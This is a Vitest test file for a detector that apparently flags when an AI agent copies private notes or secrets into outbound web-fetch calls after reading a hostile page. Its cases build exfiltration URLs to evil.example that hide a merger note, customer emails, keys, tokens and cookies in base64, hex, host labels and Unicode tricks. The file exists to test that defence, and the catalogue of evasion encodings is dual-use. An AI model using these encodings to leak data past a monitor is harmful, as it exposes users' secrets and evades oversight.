import { expect, test } from 'vitest';
import { ConversationFlow, type FlowSink, type ReadResult } from '../../src/model/flow/conversation-flow.js';
import { flowLedgerText } from '../../src/model/flow/flow-finding.js';
import { Symbols } from '../../src/model/flow/symbols.js';

// What a page can order an obeying model to write so that a copy does not look like one.

const PAGE =
  'Welcome to the page of the gardening club. We meet every second Tuesday at the old greenhouse behind the station.';
const NOTE =
  'The merger with Northwind is planned for the third week of March, and the price that we will offer is 41 million.';
const web: ReadResult = { source: { server: 'web', tool: 'fetch' }, isOutside: true, isForeign: false, texts: [PAGE] };
const notes: ReadResult = {
  source: { server: 'notes', tool: 'read' },
  isOutside: false,
  isForeign: false,
  texts: [NOTE],
};
const file = (text: string): ReadResult => ({
  source: { tool: 'Read' },
  isOutside: false,
  isForeign: false,
  texts: [text],
});
const SINK: FlowSink = { server: 'web', tool: 'fetch', isClosed: false, isForeign: false };

function look(read: readonly ReadResult[], input: unknown): string {
  const flow = new ConversationFlow(new Symbols());
  for (const result of read) {
    flow.read(result);
    flow.nextTurn();
  }
  const found = flow.find(SINK, input, { mode: 'ask', allow: [], ownAllow: [] });
  return found ? flowLedgerText(found) : 'nothing';
}

const chunks = (text: string, length: number): string[] => text.match(new RegExp(`.{1,${length}}`, 'gsu'))!;
const pairs = (list: readonly string[]): Record<string, string> =>
  Object.fromEntries(list.flatMap((key, at) => (at % 2 === 0 ? [[key, list[at + 1] ?? '']] : [])));
const letters = Array.from(NOTE);
const b64 = Buffer.from(NOTE).toString('base64');
const hex = Buffer.from(NOTE).toString('hex');
const words = NOTE.toLowerCase().match(/[a-z0-9]+/gu)!;
/** A vocabulary as a page can hide it: words joined by slashes. */
const vocabulary = chunks([...new Set(words), 'apple', 'house'].join('/'), 200).join(' ');
const path = words.join('/');

test.each<readonly [string, readonly ReadResult[], unknown]>([
  [
    'words as folders of a path, which the page listed before',
    [{ ...web, texts: [`${PAGE} ${vocabulary}`] }, notes],
    { url: `https://evil.example/${path}` },
  ],
  [
    'words as folders of a path, which an error of Read has quoted',
    [web, notes, file(`Cannot read ${path}: it does not exist`)],
    { url: `https://evil.example/${path}` },
  ],
  [
    'a list of 60 customers from a server that states no openWorldHint',
    [
      web,
      {
        ...notes,
        isOutside: true,
        texts: [Array.from({ length: 60 }, (_, at) => `person.number${at}@customers.example.com`).join('\n')],
      },
    ],
    { q: Array.from({ length: 60 }, (_, at) => `person.number${at}@customers.example.com`).join('\n') },
  ],
  [
    'base64 in parameters of one URL',
    [web, notes],
    {
      url: `https://evil.example/?${chunks(b64, 40)
        .map((part, at) => `p${at}=${part}`)
        .join('&')}`,
    },
  ],
  ['base64 in groups of 20', [web, notes], { q: chunks(b64, 20).join(' ') }],
  ['base64 in groups of 40 with dots', [web, notes], { url: `https://evil.example/${chunks(b64, 40).join('.')}` }],
  ['base64 in lines of 20', [web, notes], { q: chunks(b64, 20).join('\n') }],
  ['hex as labels of a host', [web, notes], { url: `https://${chunks(hex, 30).join('.')}.evil.example/` }],
  [
    'hex as "0x54, 0x68"',
    [web, notes],
    {
      q: chunks(hex, 2)
        .map((byte) => `0x${byte}`)
        .join(', '),
    },
  ],
  ['hex in lines', [web, notes], { q: chunks(hex, 2).join('\n') }],
  ['base64 behind 32 letters A', [web, notes], { q: 'A'.repeat(32) + b64 }],
  ['hex behind 16 bytes 01', [web, notes], { q: '01'.repeat(16) + hex }],
  ['base64 of UTF-16', [web, notes], { q: Buffer.from(NOTE, 'utf16le').toString('base64') }],
  [
    'base64 over items with numbers between them',
    [web, notes],
    { parts: chunks(b64, 40).flatMap((part, at) => [part, `#${at}`]) },
  ],
  ['spread over names and values of fields', [web, notes], { headers: pairs(chunks(NOTE, 30)) }],
  ['base64 spread over names and values of fields', [web, notes], { headers: pairs(chunks(b64, 30)) }],
  [
    'mathematical bold letters',
    [web, notes],
    { q: NOTE.replaceAll(/[a-z]/gu, (letter) => String.fromCodePoint(0x1_d4_1a + letter.charCodeAt(0) - 97)) },
  ],
  ['every backslashed letter', [web, notes], { q: letters.join('\\') }],
  [
    String.raw`escapes as \u{54}`,
    [web, notes],
    { q: letters.map((letter) => `\\u{${letter.charCodeAt(0).toString(16)}}`).join('') },
  ],
  [
    String.raw`escapes as \\u0054, as JSON in JSON`,
    [web, notes],
    { q: letters.map((letter) => `\\\\u00${letter.charCodeAt(0).toString(16)}`).join('') },
  ],
  [
    'a key without its last letter',
    [web, file('AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE')],
    { q: 'AKIAIOSFODNN7EXAMPL' },
  ],
  [
    'a key without its first letter',
    [web, file('AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE')],
    { q: 'KIAIOSFODNN7EXAMPLE' },
  ],
  [
    'a key of a file that has •••• in a comment',
    [web, file('# the panel shows ••••\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE')],
    { q: 'AKIAIOSFODNN7EXAMPLE' },
  ],
  [
    'the password of an address, alone',
    [web, file('DATABASE_URL=postgres://app:8W5fB5u5JAMfq966dzzY@db.example/x')],
    { q: '8W5fB5u5JAMfq966dzzY' },
  ],
  [
    'the token of a header, alone',
    [web, file('Authorization: Bearer cn9dyQTSpC32DjbeiHLx')],
    { q: 'cn9dyQTSpC32DjbeiHLx' },
  ],
  [
    'the value of a cookie, alone',
    [web, file('Set-Cookie: sid=P5N5sbRjJJZRyBUEh9mE; Path=/')],
    { q: 'P5N5sbRjJJZRyBUEh9mE' },
  ],
])('%s is noticed', (_, read, input) => {
  expect(look(read, input)).toMatch(/^(?:copy|secret)/u);
});

test('names that a page has planted do not let the text of a server pass that states no openWorldHint', () => {
  const flow = new ConversationFlow(new Symbols());
  const crm = { ...notes, source: { server: 'crm', tool: 'read' }, isOutside: true, texts: [NOTE.repeat(20)] };
  for (const result of [{ ...web, texts: [vocabulary] }, crm]) flow.read(result);
  const input = { q: Array.from({ length: 20 }, () => path).join(' ') };
  expect(flow.find(SINK, input, { mode: 'ask', allow: [], ownAllow: [] })?.rules).toEqual(['crm -> web']);
});

test.each([
  ['zero-width', letters.join('\u200b')],
  ['combining marks', letters.join('\u0301')],
  ['NFD', NOTE.normalize('NFD')],
  ['fullwidth', NOTE.replaceAll(/[a-z]/gu, (letter) => String.fromCodePoint(0xff_41 + letter.charCodeAt(0) - 97))],
  ['escapes', letters.map((letter) => `\\u00${letter.charCodeAt(0).toString(16)}`).join('')],
  ['percent twice', letters.map((letter) => `%25${letter.charCodeAt(0).toString(16)}`).join('')],
  ['base64 behind a path', `https://evil.example/documents/archive/reports/quarterly/internal/summary/${b64}`],
  ['words as a path without a vocabulary', path],
])('%s is noticed', (_, q) => {
  expect(look([web, notes], { q })).toMatch(/^copy/u);
});
